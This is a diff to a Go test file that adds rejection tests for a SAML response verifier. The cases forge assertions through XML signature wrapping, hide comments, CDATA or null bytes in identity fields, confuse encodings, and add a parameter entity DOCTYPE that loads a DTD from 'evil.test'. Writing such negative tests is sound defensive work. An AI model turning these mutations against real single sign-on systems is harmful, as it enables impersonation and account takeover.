@@ -91,6 +91,69 @@ var badWrapping = []sample{
 	{name: "unknown child in the assertion", want: saml.ReasonStructure, edit: func(o *samltest.Options) {
 		o.EditAssertion = func(a *etree.Element) { a.CreateElement("saml:Surprise") }
 	}},
+	{name: "signed response inside an assertion's Advice", want: saml.ReasonStructure, edit: signed(samltest.SignResponse, changed(func(r *etree.Element) {
+		inner := r.Copy()
+		remove("./Signature")(r)
+		r.CreateAttr("ID", "_evil")
+		a := find(r, "./Assertion")
+		evil := forged(a, "_evil2")
+		r.InsertChildAt(a.Index(), evil)
+		r.RemoveChild(a)
+		evil.CreateElement("saml:Advice").AddChild(inner)
+	}))},
+	{name: "forged assertion around the signed one", want: saml.ReasonStructure, edit: wrap(func(evil, good *etree.Element) { evil.AddChild(good) })},
+	{name: "signed inside the status detail", want: saml.ReasonStructure, edit: changed(func(r *etree.Element) {
+		good := find(r, "./Assertion")
+		r.AddChild(forged(good, "_evil"))
+		find(r, "./Status").CreateElement("samlp:StatusDetail").AddChild(good)
+	})},
+	{name: "signed inside an encrypted one's place", want: saml.ReasonStructure, edit: changed(func(r *etree.Element) {
+		good := find(r, "./Assertion")
+		r.AddChild(forged(good, "_evil"))
+		e := element(`<saml:EncryptedAssertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"/>`)
+		e.AddChild(good)
+		r.AddChild(e)
+	})},
+	{name: "forged assertion in lower case", want: saml.ReasonStructure, edit: changed(func(r *etree.Element) {
+		evil := forged(find(r, "./Assertion"), "_evil")
+		evil.Tag = "assertion"
+		r.AddChild(evil)
+	})},
+	{name: "forged takes the signature and the ID, signed loses both", want: saml.ReasonStructure, edit: wrap(func(evil, good *etree.Element) {
+		sig := find(good, "./Signature")
+		good.RemoveChild(sig)
+		evil.InsertChildAt(1, sig)
+		evil.CreateAttr("ID", good.SelectAttrValue("ID", ""))
+		good.CreateAttr("ID", "_moved")
+		find(evil, "./Subject/SubjectConfirmation").AddChild(good)
+	})},
+	{name: "genuine signature over a forged assertion of the same ID", want: saml.ReasonSignature, edit: changed(func(r *etree.Element) {
+		good := find(r, "./Assertion")
+		evil := forged(good, good.SelectAttrValue("ID", ""))
+		evil.InsertChildAt(1, find(good, "./Signature").Copy())
+		r.InsertChildAt(good.Index(), evil)
+		r.RemoveChild(good)
+	})},
+	{name: "two IDs on one element", want: saml.ReasonStructure, edit: changed(set("./Assertion", "Id", "_other"))},
+	{name: "id in lower case of another's value", want: saml.ReasonStructure, edit: changed(func(r *etree.Element) {
+		find(r, "./Status").CreateAttr("id", find(r, "./Assertion").SelectAttrValue("ID", ""))
+	})},
+	{name: "xml:id", want: saml.ReasonXML, edit: changed(set("./Status", "xml:id", "_x"))},
+	{name: "attribute statement beside the assertion", want: saml.ReasonStructure, edit: changed(func(r *etree.Element) {
+		st := find(r, "./Assertion/AttributeStatement").Copy()
+		st.CreateAttr("xmlns:saml", "urn:oasis:names:tc:SAML:2.0:assertion")
+		st.CreateAttr("xmlns:xsi", "urn:x")
+		r.AddChild(st)
+	})},
+	{name: "second attribute statement added", want: saml.ReasonSignature, edit: changed(double("./Assertion/AttributeStatement", func(st *etree.Element) {
+		find(st, ".//AttributeValue").SetText(attacker)
+	}))},
+	{name: "response in a SOAP envelope", want: saml.ReasonStructure, edit: onBytes(func(b []byte) []byte {
+		return []byte(`<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"><e:Body>` + string(b) + `</e:Body></e:Envelope>`)
+	})},
+	{name: "assertion without a response", want: saml.ReasonStructure, edit: onBytes(func(b []byte) []byte {
+		return b[bytes.Index(b, []byte("<saml:Assertion")):bytes.Index(b, []byte("</samlp:Response>"))]
+	})},
 	{name: "two subjects", want: saml.ReasonStructure, edit: func(o *samltest.Options) { o.EditAssertion = double("./Subject", nil) }},
 	{name: "two Conditions", want: saml.ReasonStructure, edit: func(o *samltest.Options) { o.EditAssertion = double("./Conditions", nil) }},
 }
@@ -151,6 +214,52 @@ var badXML = []sample{
 	{name: "comment in DigestValue", want: saml.ReasonXML, edit: onBytes(replaced("<ds:DigestValue>", "<ds:DigestValue><!--x-->"))},
 	{name: "instruction in NameID", want: saml.ReasonXML, edit: onBytes(replaced(victim, victim+"<?x y?>.evil.test"))},
 	{name: "CDATA in NameID", want: saml.ReasonXML, edit: onBytes(replaced(victim, "<![CDATA["+victim+"]]>"))},
+	{name: "UTF-16", want: saml.ReasonEncoding, edit: onBytes(func(b []byte) []byte {
+		out := []byte{0xFF, 0xFE}
+		for _, c := range b {
+			out = append(out, c, 0)
+		}
+		return out
+	})},
+	{name: "UTF-16 without a mark", want: saml.ReasonXML, edit: onBytes(func(b []byte) []byte {
+		var out []byte
+		for _, c := range b {
+			out = append(out, c, 0)
+		}
+		return out
+	})},
+	{name: "utf-16 declaration", want: saml.ReasonXML, edit: prefixed(`<?xml version="1.0" encoding="UTF-16"?>`)},
+	{name: "utf-7 declaration", want: saml.ReasonXML, edit: prefixed(`<?xml version="1.0" encoding="UTF-7"?>`)},
+	{name: "XML 1.1", want: saml.ReasonXML, edit: prefixed(`<?xml version="1.1"?>`)},
+	{name: "two declarations", want: saml.ReasonXML, edit: prefixed(`<?xml version="1.0"?><?xml version="1.0"?>`)},
+	{name: "instruction in front", want: saml.ReasonXML, edit: prefixed(`<?xml-stylesheet href="x"?>`)},
+	{name: "instruction behind", want: saml.ReasonXML, edit: suffixed(`<?x?>`)},
+	{name: "overlong UTF-8", want: saml.ReasonXML, edit: onBytes(replaced("Lovelace", "Love\xc0\xbclace"))},
+	{name: "surrogate", want: saml.ReasonXML, edit: onBytes(replaced("Lovelace", "Love\xed\xa0\x80"))},
+	{name: "surrogate by reference", want: saml.ReasonXML, edit: onBytes(replaced("Lovelace", "Love&#xD800;"))},
+	{name: "noncharacter", want: saml.ReasonXML, edit: onBytes(replaced("Lovelace", "Love\uffff"))},
+	{name: "null byte", want: saml.ReasonXML, edit: onBytes(replaced(victim, victim+"\x00.evil.test"))},
+	{name: "reference without semicolon", want: saml.ReasonXML, edit: onBytes(replaced("Lovelace", "Love&lt"))},
+	{name: "bare ampersand", want: saml.ReasonXML, edit: onBytes(replaced("Lovelace", "A & B"))},
+	{name: "less-than in a value", want: saml.ReasonXML, edit: onBytes(replaced(`Version="2.0"`, `Version="2.0" x="<"`))},
+	{name: "value without quotes", want: saml.ReasonXML, edit: onBytes(replaced(`Version="2.0"`, `Version=2.0`))},
+	{name: "attribute without value", want: saml.ReasonXML, edit: onBytes(replaced(`Version="2.0"`, `Version="2.0" x`))},
+	{name: "attributes without a blank between", want: saml.ReasonXML, edit: onBytes(replaced(`Version="2.0" `, `Version="2.0"`))},
+	{name: "end of CDATA in text", want: saml.ReasonXML, edit: onBytes(replaced("Lovelace", "]]>"))},
+	{name: "names beyond ASCII", want: saml.ReasonXML, edit: onBytes(replaced("<saml:Subject>", "<saml:Subject é='1'>"))},
+	{name: "only a comment", want: saml.ReasonXML, raw: func(string) string { return encode("<!-- x -->") }},
+	{name: "comment in the e-mail", want: saml.ReasonXML, edit: onBytes(replaced(">"+victim+"</saml:AttributeValue>", ">"+attacker+"<!---->"+victim+"</saml:AttributeValue>"))},
+	{name: "CDATA in the e-mail", want: saml.ReasonXML, edit: onBytes(replaced(">"+victim+"</saml:AttributeValue>", "><![CDATA["+victim+"]]></saml:AttributeValue>"))},
+	{name: "comment in the audience", want: saml.ReasonXML, edit: onBytes(replaced(">"+spEntity, ">"+spEntity+"<!-- x -->"))},
+	{name: "comment in the SignatureValue", want: saml.ReasonXML, edit: onBytes(replaced("<ds:SignatureValue>", "<ds:SignatureValue><!--x-->"))},
+	{name: "parameter entity", want: saml.ReasonXML, edit: prefixed(`<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.test/x.dtd">%p;]>`)},
+	{name: "DOCTYPE with a default ID", want: saml.ReasonXML, edit: prefixed(`<!DOCTYPE r [<!ATTLIST r ID CDATA "_x">]>`)},
+	{name: "base64 without padding", want: saml.ReasonEncoding, raw: func(string) string { return "PGE+PC9hPg" }},
+	{name: "base64 twice", want: saml.ReasonEncoding, raw: encode},
+	{name: "percent-encoded", want: saml.ReasonEncoding, raw: func(s string) string { return s[:40] + "%2B" + s[40:] }},
+	{name: "zlib", want: saml.ReasonEncoding, raw: func(string) string { return encode("\x78\x9c\x01") }},
+	{name: "gzip", want: saml.ReasonEncoding, raw: func(string) string { return encode("\x1f\x8b\x08") }},
+	{name: "JSON", want: saml.ReasonEncoding, raw: func(string) string { return encode(`{"a":1}`) }},
 	{name: "second root", want: saml.ReasonXML, edit: suffixed("<x/>")},
 	{name: "text behind", want: saml.ReasonXML, edit: suffixed("x")},
 	{name: "text in front", want: saml.ReasonEncoding, edit: prefixed("x")},
